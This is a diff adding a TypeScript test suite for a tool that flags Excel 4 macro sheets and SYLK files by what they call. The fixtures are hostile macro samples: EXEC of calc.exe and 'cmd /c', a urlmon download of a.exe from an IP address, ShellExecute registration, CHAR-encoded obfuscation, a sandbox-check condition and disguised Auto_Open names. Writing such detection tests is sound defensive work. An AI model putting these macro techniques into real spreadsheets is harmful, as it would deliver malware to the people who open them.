@@ -1,0 +1,200 @@
+/** Excel 4 macro sheets are read in all formats of Excel, and judged by what they call. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import {
+  CALLS_MAX,
+  type MacroBook,
+  REFERENCES_MAX,
+  runMacros,
+  STEPS_MAX,
+  TEXT_MAX,
+} from '#inspect/judge/xlm/evaluate.ts'
+import { DEPTH_MAX, type Formula, PARTS_MAX, parseFormula } from '#inspect/judge/xlm/formula.ts'
+import { isAutoName } from '#inspect/judge/xlm/judge.ts'
+import { assertCheap } from '#inspect/testing/cpu-time.ts'
+import { useInspector } from '#inspect/testing/inspector.ts'
+import { tokens, writeBiffXlm, writeXlm } from '#inspect/testing/xlm-writer.ts'
+import { LINES_MAX } from './sylk.ts'
+
+const { inspect } = useInspector()
+
+function found(document: Uint8Array): string[] {
+  const { findings, obstacle } = inspect(document)
+  assert.equal(obstacle, null)
+  return findings
+    .filter(({ id }) => /\.(?:Xlm|Sylk)\./.test(id))
+    .map(({ id, severity }) => `${severity} ${id.slice('Docvet.'.length)}`)
+}
+
+const PRESENT = 'notice Xlm.Present'
+const AUTO = 'suspicious Xlm.AutoStart'
+const EXECUTE = 'malicious Xlm.Execute'
+const LIBRARY = 'suspicious Xlm.Library'
+const coded = (text: string): string => [...text].map((character) => `CHAR(${character.charCodeAt(0)})`).join('&')
+
+suite('macro sheets in XML', () => {
+  const cases: Record<string, [Parameters<typeof writeXlm>[0], string[]]> = {
+    'that start a program': [{ formulas: ['EXEC("calc.exe")', 'HALT()'] }, [EXECUTE, AUTO, PRESENT]],
+    'that build the call': [{ formulas: [`FORMULA(${coded('=EXEC("calc")')},A5)`] }, [EXECUTE, AUTO, PRESENT]],
+    'that build it over several cells': [
+      { formulas: [`SET.VALUE(B1,${coded('=EXE')})`, 'SET.NAME("x",B1&"C(""calc"")")', 'FORMULA(x,A9)'] },
+      [EXECUTE, AUTO, PRESENT],
+    ],
+    'that take the call from a worksheet': [
+      { formulas: ['FORMULA("="&data!A1&MID(data!A2,2,99),A9)'], data: ['EX', 'xEC("cmd /c x")'] },
+      [EXECUTE, AUTO, PRESENT],
+    ],
+    'that download': [
+      { formulas: ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://192.0.2.1/a","a.exe",0,0)'] },
+      [EXECUTE, AUTO, PRESENT],
+    ],
+    'that register a function of Windows': [
+      { formulas: ['REGISTER("Shell32","ShellExecuteA","JJCCCCJ","x",,1,9)'], names: [] },
+      [EXECUTE, PRESENT],
+    ],
+    'that hide the call in a condition': [
+      { formulas: ['IF(GET.WORKSPACE(19),EXEC("calc"),CLOSE(TRUE))'] },
+      [EXECUTE, AUTO, PRESENT],
+    ],
+    'under another path': [{ formulas: ['EXEC("calc")'], part: 'foo/bar.xml' }, [EXECUTE, AUTO, PRESENT]],
+    'that are very hidden': [
+      { formulas: ['HALT()'], names: [], state: 'veryHidden' },
+      ['suspicious Xlm.HiddenSheet', PRESENT],
+    ],
+    'with a message': [{ formulas: ['ALERT("Hello")', 'HALT()'] }, [AUTO, PRESENT]],
+    'with recorded steps': [
+      { formulas: ['SELECT("R1C1")', 'FORMULA("Total")', 'FORMULA("=SUM(R1C1:R2C1)")', 'RETURN()'], names: [] },
+      [PRESENT],
+    ],
+    'with a library of their own': [{ formulas: ['REGISTER("ANALYS32.XLL","fMain","J")'] }, [AUTO, LIBRARY, PRESENT]],
+    'without formulas': [{ formulas: [] }, [PRESENT]],
+  }
+  for (const [name, [plan, expected]] of Object.entries(cases))
+    test(name, () => assert.deepEqual(found(writeXlm(plan)).sort(), expected.sort()))
+
+  test('are not where a worksheet has such formulas', () => {
+    assert.deepEqual(found(writeXlm({ formulas: [], data: ['=EXEC("calc")'] })), [PRESENT])
+  })
+})
+
+suite('macro sheets in workbooks of Excel 97', () => {
+  const EXEC = 110
+  const CALL = 150
+  const CHAR = 111
+  const { text, call, number, concatenated, fixed } = tokens
+  const exec = Buffer.concat([text('calc.exe'), call(EXEC, 1)])
+  const built = Buffer.concat([number(99), fixed(CHAR), text('alc'), concatenated, call(EXEC, 1)])
+
+  test('that start a program, by a built-in or a written name', () => {
+    assert.deepEqual(found(writeBiffXlm({ formulas: [exec] })), [EXECUTE, AUTO, PRESENT])
+    assert.deepEqual(found(writeBiffXlm({ formulas: [built], name: 'auto_open_x' })), [EXECUTE, AUTO, PRESENT])
+    assert.deepEqual(found(writeBiffXlm({ formulas: [Buffer.concat([text('urlmon'), text('a'), call(CALL, 2)])] })), [
+      EXECUTE,
+      AUTO,
+      PRESENT,
+    ])
+  })
+  test('are found by the list of sheets or by their header', () => {
+    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], listed: 0 })), [EXECUTE, AUTO, PRESENT])
+    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], header: 0x10 })), [EXECUTE, AUTO, PRESENT])
+    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], listed: 0, header: 0x10 })), [])
+  })
+  test('without a name that runs them', () => {
+    assert.deepEqual(found(writeBiffXlm({ formulas: [exec], name: null })), [LIBRARY, PRESENT])
+  })
+  test('that only have commands with the same numbers', () => {
+    const commands = [EXEC, CALL].map((each) => Buffer.concat([text('x'), call(each | 0x8000, 1)]))
+    assert.deepEqual(found(writeBiffXlm({ formulas: commands })), [AUTO, PRESENT])
+  })
+})
+
+suite('symbolic link files', () => {
+  const slk = (...lines: string[]): Buffer => Buffer.from(`ID;P\r\nO;E\r\n${lines.join('\r\n')}\r\nE\r\n`)
+  const AUTO_NAME = 'NN;NAuto_open;ER101C1;KOut Flank;F'
+
+  test('that start a program', () => {
+    assert.deepEqual(found(slk(AUTO_NAME, 'C;X1;Y101;K0;EEXEC("CALC.EXE")', 'C;X1;Y102;K0;EHALT()')), [
+      'malicious Sylk.Macro',
+      AUTO,
+      PRESENT,
+    ])
+    assert.deepEqual(found(slk(AUTO_NAME, `C;X1;Y101;K0;EEXEC(${coded('cmd')}&" /c x")`)), [
+      'malicious Sylk.Macro',
+      AUTO,
+      PRESENT,
+    ])
+  })
+  test('that are tables', () => {
+    assert.deepEqual(found(Buffer.from('ID;PWXL;N;E\r\nC;Y1;X1;K"Total"\r\nC;Y2;X1;K5;ESUM(R1C1)\r\nE\r\n')), [])
+  })
+  test('with too many lines are too complex', () => {
+    const obstacleOf = (lines: number): string | undefined => {
+      const text = `ID;P\nO;E\n${'F\n'.repeat(lines - 2)}`
+      let reason: string | undefined
+      assertCheap(() => (reason = inspect(Buffer.from(text)).obstacle?.reason))
+      return reason
+    }
+    assert.equal(obstacleOf(LINES_MAX), undefined)
+    assert.equal(obstacleOf(LINES_MAX + 1), 'too_complex')
+  })
+})
+
+test('names that Excel runs', () => {
+  for (const name of [
+    'Auto_Open',
+    '_xlnm.Auto_Open',
+    'AUTO_OPEN123',
+    'auto_close',
+    'A\u0000uto_Open',
+    '\uff21uto_Open',
+    'Auto_Activate',
+  ])
+    assert.ok(isAutoName(name), name)
+  for (const name of ['Print_Area', 'Automatic', 'MyAuto_Open', '_xlnm._FilterDatabase'])
+    assert.ok(!isAutoName(name), name)
+})
+
+suite('limits of macro sheets', () => {
+  const bookOf = (formulas: readonly (Formula | null)[]): MacroBook => ({
+    cells: new Map(formulas.map((formula, row) => [`m!${row},0`, { formula, value: null }])),
+    macroSheets: new Set(['m']),
+    names: new Map(),
+  })
+  const run = (...formulas: string[]) => runMacros(bookOf(formulas.map(parseFormula)), (name) => name === 'EXEC')
+
+  test('parts and depth of a formula', () => {
+    const parts = (count: number): boolean => parseFormula(Array(count).fill('1').join('+')) !== null
+    assert.equal(parts(PARTS_MAX / 2), true)
+    assert.equal(parts(PARTS_MAX / 2 + 1), false)
+    const depth = (levels: number): boolean =>
+      parseFormula(`${'('.repeat(levels - 1)}1${')'.repeat(levels - 1)}`) !== null
+    assert.equal(depth(DEPTH_MAX), true)
+    assert.equal(depth(DEPTH_MAX + 1), false)
+  })
+  test('steps', () => {
+    const sum = Array(2_000).fill('1').join('+')
+    // Each formula is evaluated twice.
+    const fits = Math.floor(STEPS_MAX / (2 * (2 * 2_000 - 1)))
+    assert.equal(run(...Array<string>(fits).fill(sum)).isComplete, true)
+    assert.equal(run(...Array<string>(fits + 1).fill(sum)).isComplete, false)
+  })
+  test('cells that refer to each other', () => {
+    const chain = (length: number): string[] => [
+      ...Array.from({ length: length - 1 }, (_, i) => (i === 0 ? 'EXEC(A2)' : `A${i + 2}`)),
+      '"x"',
+    ]
+    assert.deepEqual(run(...chain(REFERENCES_MAX)).calls[0]?.args, ['x'])
+    assert.notDeepEqual(run(...chain(REFERENCES_MAX + 2)).calls[0]?.args, ['x'])
+    assert.equal(run('EXEC(A1)').isComplete, true)
+  })
+  test('characters of a text', () => {
+    assert.deepEqual(run(`EXEC(LEN(REPT("a",${TEXT_MAX})))`).calls[0]?.args, [String(TEXT_MAX)])
+    assert.deepEqual(run(`EXEC(LEN(REPT("a",${TEXT_MAX + 1})))`).calls[0]?.args, ['\ufffd'])
+  })
+  test('calls', () => {
+    const calls = (count: number): boolean => run(...Array.from({ length: count }, (_, i) => `EXEC(${i})`)).isComplete
+    assert.equal(calls(CALLS_MAX), true)
+    assert.equal(calls(CALLS_MAX + 1), false)
+  })
+})
